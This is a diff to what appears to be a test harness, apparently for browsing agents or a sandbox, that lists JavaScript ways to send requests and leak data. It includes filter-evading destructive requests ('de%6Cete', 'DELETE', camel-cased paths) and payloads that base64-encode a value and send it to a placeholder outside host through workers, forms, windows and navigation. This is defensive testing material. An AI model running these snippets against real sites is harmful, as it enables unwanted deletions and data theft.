@@ -28,8 +28,8 @@ _SENDING = {
     "sandboxed new frame's beacon": _srcdoc("navigator.sendBeacon('${location.origin}/c/zeta-c5')"),
     "XSLT": _FRAME.format("f.src = '/c/xslt'"),
     "JSON module": "import('/c/zeta-c7/delete', {with: {type: 'json'}}).catch(() => 0)",
-    "humps in a new window": "open('/c/zeta-c8/deleteItem')",
-    "encoded letters in a new window": "open('/c/zeta-c9/de%6Cete')",
+    "humps in a new window": "window.open('/c/zeta-c8/deleteItem')",
+    "encoded letters in a new window": "window.open('/c/zeta-c9/de%6Cete')",
     "new frame": _srcdoc(f"fetch('${{location.origin}}/c/zeta-c10', {_POST})", ""),
     "link preload": _LINK.format("preload", "/c/zeta-c11/delete", ", as: 'fetch'"),
     "speculative prefetch": _RULES.format("prefetch", "/c/zeta-c12/delete"),
@@ -48,7 +48,7 @@ _SENDING = {
     "image with encoded letters": "new Image().src = '/c/zeta-c23/de%6Cete'",
     "image with humps": "new Image().src = '/c/zeta-c24/itemDelete'",
     "image in capitals": "new Image().src = '/c/zeta-c25/DELETE'",
-    "capitals in a new window": "open('/c/zeta-c26/DELETE')",
+    "capitals in a new window": "window.open('/c/zeta-c26/DELETE')",
 }
 
 
@@ -60,7 +60,7 @@ CHANNELS = Kind(
     # An agent follows a new window: those come last.
     {
         name: (script, _mark(script))
-        for name, script in sorted(_SENDING.items(), key=lambda one: one[1].startswith("open("))
+        for name, script in sorted(_SENDING.items(), key=lambda one: one[1].startswith("window.open("))
     },
     own="const later = window.fetchLater; navigator.serviceWorker?.register('/sw.js');",
 )
@@ -87,7 +87,7 @@ _LEAKING = {
     "worker": "new Worker(window.URL.createObjectURL(new Blob(["
     "`fetch('http://{}/?${{btoa({v})}}', {{mode: 'no-cors'}})`])))",
     "shared worker": "new SharedWorker('/tell.js?' + encodeURIComponent(`http://{}/?` + btoa({v})))",
-    "new window": "open(`http://{}/?` + btoa({v}))",
+    "new window": "window.open(`http://{}/?` + btoa({v}))",
     "new window's form": "const g = document.createElement('form'); g.target = '_blank'; g.method = 'post'; "
     "g.action = `http://{}/`; document.body.append(g); g.submit()",
     "leaving": "window.name = {v}; location.href = `http://{}/far`",
